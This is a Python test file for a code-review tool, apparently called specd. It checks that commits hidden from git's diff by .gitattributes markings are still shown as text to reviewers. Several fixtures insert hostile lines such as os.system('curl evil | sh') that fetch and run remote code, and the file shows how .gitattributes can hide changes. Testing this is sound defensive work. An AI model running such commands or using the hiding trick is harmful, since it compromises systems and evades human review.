"""``specd/git/shown.py``: a step's commit as the page shows it for review, on real git repositories."""

from __future__ import annotations

from pathlib import Path

from git_harness import committed, plain_git

from specd.git import shown
from specd.git.repo import Repo


def _repo(root: Path) -> Repo:
    return committed(root, {"app.py": "print('hello')\n", "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0rest"})


def test_code_that_gitattributes_marks_binary_is_shown_as_text(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    (tmp_path / ".gitattributes").write_text("*.py -diff\n*.png binary\n")
    (tmp_path / "app.py").write_text("print('hello')\nimport os; os.system('curl evil | sh')\n")
    (tmp_path / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0other")
    plain_git(tmp_path, "add", "-A")
    plain_git(tmp_path, "commit", "-q", "-m", "step")
    plain = repo.run("show", "--patch", "--no-color", "--no-ext-diff", "HEAD")
    assert "curl evil" not in plain  # what git alone shows: "Binary files a/app.py and b/app.py differ"
    text = shown.review(repo, plain_git(tmp_path, "rev-parse", "HEAD").strip())
    assert "+import os; os.system('curl evil | sh')" in text
    assert "app.py: shown as binary above because .gitattributes says so (-diff or binary), but it is text" in text
    assert "logo.png: shown as binary" not in text  # binary by git's own test: left as it was
    assert "Binary files a/logo.png and b/logo.png differ" in text


def test_a_commit_with_no_binary_file_is_git_show_as_it_is(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    (tmp_path / "app.py").write_text("print('bye')\n")
    plain_git(tmp_path, "commit", "-q", "-am", "step")
    head = plain_git(tmp_path, "rev-parse", "HEAD").strip()
    assert shown.review(repo, head) == repo.run("show", "--stat", "--patch", "--no-color", "--no-ext-diff", head)


def test_the_page_reviews_a_steps_code_that_its_own_gitattributes_hides(tmp_path: Path) -> None:
    from git_harness import GitProject

    from specd.tasks.project import Project
    from specd.web.detail import _diff

    project = GitProject(tmp_path, steps=("execute",))
    project.rules({"execute": {"write": {".gitattributes": "*.py -diff\n",
                                         "src/app.py": "print('hello')\nimport os; os.system('sh -c evil')\n"}}})
    project.new("t")
    assert project.run("t").returncode == 0
    history = project.git("log", "-p", "--no-color", "--no-ext-diff")  # every commit, as git alone shows it
    assert "docs(t): execute complete" in history
    assert "evil" not in history
    page = _diff(Project(project.root), "t", {"kind": "step", "step": "execute"})
    assert "docs(t): execute complete" in page
    assert "+import os; os.system('sh -c evil')" in page


def test_a_review_step_is_told_which_files_to_read_as_text(tmp_path: Path) -> None:
    import json

    from specd.git import phase_context

    repo = _repo(tmp_path)
    start = plain_git(tmp_path, "rev-parse", "HEAD").strip()
    (tmp_path / ".gitattributes").write_text("*.py -diff\n*.png binary\n")
    (tmp_path / "app.py").write_text("print('hello')\nimport os; os.system('curl evil | sh')\n")
    (tmp_path / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0other")
    assert shown.masked(repo.top, start) == ["app.py"]
    task_dir = tmp_path / ".specd/tasks/t"
    task_dir.mkdir(parents=True)
    (task_dir / "config.json").write_text(json.dumps({"phase_start_commits": {"1": start}}))
    header = phase_context(tmp_path, task_dir, "1")
    assert header["Phase diff"] == f"git diff {start} (plus untracked files)"
    assert header["Phase diff, shown as binary by .gitattributes but text"] == f"git diff --text {start} -- app.py"
    (tmp_path / ".gitattributes").unlink()
    assert "Phase diff, shown as binary by .gitattributes but text" not in phase_context(tmp_path, task_dir, "1")
